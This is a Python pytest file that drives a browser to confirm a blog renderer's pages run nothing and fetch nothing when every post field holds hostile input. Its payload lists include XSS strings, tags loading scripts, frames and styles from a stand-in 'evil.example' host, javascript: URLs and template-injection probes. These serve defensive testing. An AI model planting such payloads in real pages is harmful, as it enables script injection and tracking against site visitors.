"""Hostile input is data (rendering.md): whatever a field holds, a browser runs nothing of it and asks nobody for it."""

from __future__ import annotations

from html import escape
from pathlib import Path
from urllib.parse import urlsplit
from urllib.request import url2pathname

import pytest

import renderers
from ledger.domain.entries import Kind
from ledger.domain.history import Corrects, History
from ledger.domain.names import fault
from ledger.domain.posts import Actor
from ledger.rendition.elements import KNOWN
from ledger.rendition.render import Format
from tests.browser.screen import Tab
from tests.renderers.histories import Chain
from tests.rendition.test_rendition_hostile import HOSTILE

EVIL = "https://evil.example"
# What only a browser can tell: requests, navigations, what a click or a focus sets off.
LIVE = [
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<script src={EVIL}/x.js></script><script type=module src={EVIL}/x.mjs></script>",
    f"<link rel=stylesheet href={EVIL}/x.css><link rel=prefetch href={EVIL}/p><link rel=icon href={EVIL}/i.ico>",
    f"<iframe src={EVIL}/></iframe><object data={EVIL}/o></object><embed src={EVIL}/e>",
    f"<audio src={EVIL}/a.mp3 autoplay></audio><video src={EVIL}/v.mp4 poster={EVIL}/v.png autoplay></video>",
    f"<p style='background:url({EVIL}/b.png)'>x</p><table background={EVIL}/t.png><tr><td>x</table>",
    f"<style>body {{ background: url({EVIL}/s.png) }}</style>",
    f"<input type=image src={EVIL}/i.png><picture><source srcset={EVIL}/s.png></picture>",
    f"<form action={EVIL}/f><input name=x autofocus onfocus=alert(1)><button>go</button></form>",
    f"<a href=x ping={EVIL}/ping target=_blank download>x</a>",
    f"<svg><image href={EVIL}/s.png /><use href={EVIL}/u.svg#x /><a href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s /><set onbegin=alert(1) /></svg>",
    "<math href=javascript:alert(1)>x</math><math><maction xlink:href=javascript:alert(1)>y</math>",
    "<div tabindex=1 autofocus contenteditable onfocus=alert(1)>x</div><dialog open onclose=alert(1)>x</dialog>",
    "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>x</div>",
    "<p style='animation: x 1ms' onanimationstart=alert(1)>x</p><style>@keyframes x {}</style>",
    "<form id=document name=body><input name=cookie></form><img name=getElementById>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)",
    "' onload=alert(1) autofocus onfocus=alert(1) x='\" onload=alert(1) autofocus onfocus=alert(1) x=\"",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>{{ ''.__class__.__mro__ }}",
    "%0ajavascript:alert(1)//",
    "//evil.example/x.png",
    "\u2028alert(1)\u2029</script>",
]
PAYLOADS = [*HOSTILE, *LIVE]
OURS = {"body", "main", "article", "header", "aside", "section", "time", "del", "ins"}
DATA = ["application/ld+json", "BlogPosting"]
# What there is to see before anything is touched; then everything is focused and clicked, and has two frames' time.
# A link to another page is left alone: its reader may follow it.
_PROVOKE = """async () => {
    const all = [...document.querySelectorAll('*')];
    const seen = {
        handlers: all.flatMap(node => Object.keys(Object.getPrototypeOf(node))
            .concat(Object.keys(HTMLElement.prototype)).filter(name => name.startsWith('on') && node[name])),
        schemes: [...document.querySelectorAll('[href]')].map(node => new URL(node.href, document.baseURI).protocol),
        images: [...document.images].map(image => image.src.split('#')[0]),
        scripts: [...document.scripts].map(node => [node.type, node.type && JSON.parse(node.text)['@type']]),
        tags: all.filter(node => document.body.contains(node)).map(node => node.localName),
        orders: [...document.querySelectorAll('meta[http-equiv]')].map(node => node.httpEquiv),
        articles: document.querySelectorAll('body > article, main > article').length,
        text: document.body.innerText,
    };
    const frame = () => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done))));
    await frame();
    for (const node of all) {
        node.focus?.();
        if (!/^(https?|mailto|tel|file):/.test(node.closest('[href]')?.href)) node.click?.();
    }
    await frame();
    return seen;
}"""


def attacked(payload: str, form: Format) -> History:
    """A post with the payload in every field that it has."""
    made = Chain(form, post="attacked", url=payload, language=payload, agency=payload)
    quoted = escape(payload, quote=True)
    more = {
        "html": f'<a href="{quoted}" title="{quoted}">x</a> <img alt="{quoted}" src="{quoted}"> <p id="{quoted}">y</p>',
        "markdown": f"[x](<{payload}> '{payload}') ![{payload}]({payload})",
        "text": "",
    }[form]
    name = f"J{''.join(character for character in payload if fault(character) is None)}"[:200]
    made.publish(f"July 3 {payload}\n\n{more}", title=f"3 {payload}", standfirst=payload)
    made.step(
        f"July 13 {payload}\n\n{more} z",
        title=f"13 {payload}",
        standfirst=f"{payload} too",
        reason=payload,
        apology=payload,
        by=Actor(name=name, role=name),
    )
    made.linked[payload] = payload
    made.note(Kind.CORRECTION, payload, link=payload, apology=payload)
    made.corrects.append(Corrects(post=payload, title=payload, correction=made.corrections[-1]))
    return made.history()


def check_inert(tab: Tab, html: str, *, articles: int, scripts: list[list[str]]) -> None:
    """Shows the document and touches all of it: nothing runs, and nobody is asked for more than its images."""
    page = tab.open(html)
    seen = page.evaluate(_PROVOKE)
    assert (seen["articles"], seen["scripts"]) == (articles, scripts)
    assert seen["handlers"] == []
    assert set(seen["tags"]) <= KNOWN | OURS
    assert set(seen["orders"]) <= {"Content-Security-Policy"}
    assert set(seen["schemes"]) <= {"https:", "http:", "mailto:", "tel:"}
    assert "49" not in seen["text"]
    assert (tab.heard.dialogs, tab.heard.windows, tab.heard.violations) == ([], [], [])
    assert set(tab.heard.requests) <= {page.url, *seen["images"]}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_runs_in_our_page(payload: str, tab: Tab) -> None:
    """Nothing is tried that our policy would have to stop: it would tell of that.

    The one script is a data block (HTML, 4.12.1): it is not executed, no policy stops it, and it is whole.
    """
    check_inert(tab, renderers.page(attacked(payload, "html")), articles=1, scripts=[DATA])


@pytest.mark.parametrize("form", ["html", "markdown", "text"])
def test_nothing_runs_in_a_page_without_a_policy(form: Format, defenceless: Tab) -> None:
    """A fragment stands in a page of somebody else; and no payload spills over into what follows it."""
    fragments = [renderers.html(attacked(payload, form)) for payload in PAYLOADS]
    html = "<!DOCTYPE html><title>x</title><body>" + "".join(fragments)
    check_inert(defenceless, html, articles=len(PAYLOADS), scripts=[])


def heard(tab: Tab, html: str, sign: str) -> bool:
    """Whether the sign comes of showing the document; a navigation may take the browser some frames to begin."""
    tab.open(html).evaluate(_PROVOKE)
    for _ in range(30):
        done = tab.heard
        said = [f"request {url}" for url in done.requests] + [f"window {url}" for url in done.windows]
        if any(sign in each for each in [*said, *(f"dialog {text}" for text in done.dialogs)]):
            return True
        if done.violations:
            return False
        tab.page.evaluate("() => new Promise(requestAnimationFrame)")
    return False


@pytest.mark.parametrize(
    ("attack", "sign", "beyond_policy"),
    [
        ("<script>alert(1)</script>", "dialog", False),
        ("<img src=x onerror=alert(1)>", "dialog", False),
        ("<a href=javascript:alert(1)>x</a>", "dialog", False),
        ("<input autofocus onfocus=alert(1)>", "dialog", False),
        ("<button onclick=window.open('/')>x</button>", "window", False),
        (f"<form action={EVIL}><button>x</button></form>", f"request {EVIL}", False),
        (f"<link rel=stylesheet href={EVIL}>", f"request {EVIL}", False),
        (f"<style>body {{ background: url({EVIL}) }}</style>", f"request {EVIL}", False),
        (f"<iframe src={EVIL}></iframe>", f"request {EVIL}", False),
        (f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"request {EVIL}", True),
    ],
)
def test_what_runs_is_heard(attack: str, sign: str, beyond_policy: bool, tab: Tab, defenceless: Tab) -> None:
    """The check checks: put into a page raw, each attack does its work; our policy stops all that a policy can."""
    html = renderers.page(Chain().publish("A boat.", title="Boats").history()).replace("</main>", f"{attack}</main>")
    assert heard(defenceless, html, sign)
    assert heard(tab, html, sign) is beyond_policy


def test_from_a_disk_only_the_post_s_own_images_are_asked_for(tab: Tab, tmp_path: Path) -> None:
    """A folder of pages can be opened as it lies."""
    made = Chain().publish("A ![pier](pier.png) and ![far](https://far.example/f.png)", title="Boats")
    file = tmp_path / "post.html"
    file.write_text(renderers.page(made.history()), "utf-8")
    tab.visit({}, file.as_uri()).evaluate(_PROVOKE)
    assert set(tab.heard.requests) == {file.as_uri(), (tmp_path / "pier.png").as_uri(), "https://far.example/f.png"}
    assert tab.heard.violations == []


@pytest.mark.parametrize(
    "name",
    [
        "index.html",
        "corrections.html",
        "policy.html",
        "posts/paragraph/index.html",
        "posts/paragraph/history.html",
        "posts/paragraph/v1.html",
    ],
)
def test_a_site_opened_from_a_disk_asks_nobody(name: str, site: Path, tab: Tab) -> None:
    """No style, script, font or icon from elsewhere; and its links lead to what lies beside it."""
    address = (site / name).as_uri()
    page = tab.visit({}, address)
    page.evaluate(_PROVOKE)
    assert (tab.heard.requests, tab.heard.violations) == ([address], [])
    links = page.evaluate("() => [...document.links].map(node => node.href.split('#')[0])")
    beside = [Path(url2pathname(urlsplit(link).path)) for link in links if link.startswith("file:")]
    assert beside
    assert [path for path in beside if not path.is_file()] == []
